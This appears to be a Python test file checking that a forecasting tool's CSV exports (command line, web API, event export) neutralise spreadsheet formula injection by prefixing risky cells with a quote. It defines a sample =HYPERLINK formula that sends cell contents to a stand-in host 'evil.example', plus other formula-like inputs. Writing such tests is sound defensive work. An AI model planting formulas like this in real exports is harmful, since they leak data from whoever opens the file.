"""Session 39's security trial (docs/trial-2026-12-07-s39-security.md): CSV cells that a
spreadsheet runs as formulas. Names, titles, sources and sentences come from scenarios and from
articles nobody on the team wrote; the command line's and the workbench's server-side CSVs wrote
them as they were (``=HYPERLINK(...)`` a live link in Excel or LibreOffice), where session 38
had quoted the workbench's chart CSVs only. Each test failed on b3f68411's source."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any, cast

import pandas as pd
import yaml
from fastapi.testclient import TestClient

from accord.frames import frame_bytes
from accord.news.export import COLUMNS, ExportRow, write_export
from accord.scenario.catalogue import load_bundled
from accord.scenario.io import scenario_to_data
from accord.web import WebSettings, create_app
from tests.helpers import accord_process

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_frame_csv_quotes_formula_cells_and_keeps_numbers() -> None:
    frame = pd.DataFrame(
        {
            "title": [LINK, "+1", "-1.5", "@SUM(A1)", "\tx", "plain", None],
            "value": [1.0, -2.0, 3.0, 4.0, 5.0, 6.0, 7.0],
        }
    )
    rows = _cells(frame_bytes(frame, "csv").decode())
    assert [row[0] for row in rows[1:]] == [
        "'" + LINK,
        "+1",  # a number, as text: kept
        "-1.5",
        "'@SUM(A1)",
        "'\tx",
        "plain",
        "",
    ]
    assert [row[1] for row in rows[1:]] == ["1.0", "-2.0", "3.0", "4.0", "5.0", "6.0", "7.0"]
    assert frame["title"][0] == LINK  # the frame itself is not changed


def _hostile_scenario(tmp_path: Path) -> Path:
    data = scenario_to_data(load_bundled("ukraine-2025-02"))
    data["id"] = "formulas"
    data["issues"][0]["title"] = LINK
    path = tmp_path / "formulas.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


def test_the_command_line_forecast_csv_quotes_a_formula_title(tmp_path: Path) -> None:
    path = _hostile_scenario(tmp_path)
    command = ["forecast", str(path), "--engine", "mean", "--format", "csv"]
    done = accord_process(*command, cwd=tmp_path)
    assert done.returncode == 0, done.stderr[-2000:]
    rows = _cells(done.stdout)
    titles = [row[rows[0].index("title")] for row in rows[1:]]
    assert "'" + LINK in titles and LINK not in titles


def test_the_workbench_forecast_csv_quotes_a_formula_title(tmp_path: Path) -> None:
    path = _hostile_scenario(tmp_path)
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    app = create_app(WebSettings(db=str(tmp_path / "s.db"), token="a-security-token-0123456789"))
    with TestClient(app) as client:
        answer = client.post("/api/v1/forecast/csv", json={"data": data, "engine": "mean"})
        assert answer.status_code == 200, answer.text
    rows = _cells(answer.text)
    titles = [row[rows[0].index("title")] for row in rows[1:]]
    assert "'" + LINK in titles and LINK not in titles


class _Row:
    """An exported event as :func:`write_export` reads it (its flat record)."""

    def __init__(self, **cells: Any) -> None:
        self.cells = {column: None for column in COLUMNS} | cells

    def to_dict(self) -> dict[str, Any]:
        return self.cells


def test_the_events_export_csv_quotes_a_formula_sentence() -> None:
    """``accord events --format csv``: an article's sentence (a bulleted line, a quoted
    spreadsheet) or an actor's name as the article wrote it."""
    rows = [
        _Row(event_id="e1", sentence="-Russia rejected it", source_name="@Kremlin", confidence=0.9),
        _Row(event_id="e2", sentence="Talks resumed", source_name="Ukraine", confidence=-0.5),
    ]
    text = write_export(cast(list[ExportRow], rows), "csv", None)
    assert text is not None
    cells = _cells(text)
    head = cells[0]
    assert [row[head.index("sentence")] for row in cells[1:]] == [
        "'-Russia rejected it",
        "Talks resumed",
    ]
    assert [row[head.index("source_name")] for row in cells[1:]] == ["'@Kremlin", "Ukraine"]
    assert [row[head.index("confidence")] for row in cells[1:]] == ["0.9", "-0.5"]
